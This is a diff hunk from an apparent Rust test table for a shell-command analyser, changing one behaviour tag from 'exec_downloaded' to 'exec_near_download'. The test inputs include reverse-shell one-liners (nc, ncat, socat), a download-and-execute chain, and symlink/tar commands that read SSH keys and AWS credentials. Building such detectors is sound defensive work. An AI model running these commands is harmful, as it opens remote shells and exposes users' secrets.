@@ -369,7 +369,7 @@ const CASES: &[Case] = &[
     ("nc -e /bin/sh 203.0.113.7 4444", &[(B, &["reverse_shell"])]),
     ("ncat --sh-exec 'bash -i' -l 9001", &[(B, &["reverse_shell"])]),
     ("socat TCP:203.0.113.7:9 EXEC:/bin/bash,pty", &[(B, &["reverse_shell"])]),
-    ("curl -O https://x.test/payload && bash install.sh", &[(W, &["/home/dev/p/payload"]), (X, &["/home/dev/p/install.sh"]), (B, &["exec_downloaded"])]),
+    ("curl -O https://x.test/payload && bash install.sh", &[(W, &["/home/dev/p/payload"]), (X, &["/home/dev/p/install.sh"]), (B, &["exec_near_download"])]),
     ("curl -o /tmp/data.json https://x.test/d && ./scripts/load.sh", &[(W, &["/tmp/data.json"]), (X, &["/home/dev/p/scripts/load.sh"])]),
     ("ln -s ~/.ssh/id_rsa key.txt && cat key.txt", &[(W, &["/home/dev/p/key.txt"]), (R, &["/home/dev/p/key.txt", "/home/dev/.ssh/id_rsa"])]),
     ("ln -sf ~/.aws d && tar czf x.tgz d/credentials", &[(W, &["/home/dev/p/d", "/home/dev/p/x.tgz"]), (R, &["/home/dev/p/d/credentials", "/home/dev/.aws/credentials"]), (RR, &["/home/dev/p/d/credentials", "/home/dev/.aws/credentials"])]),
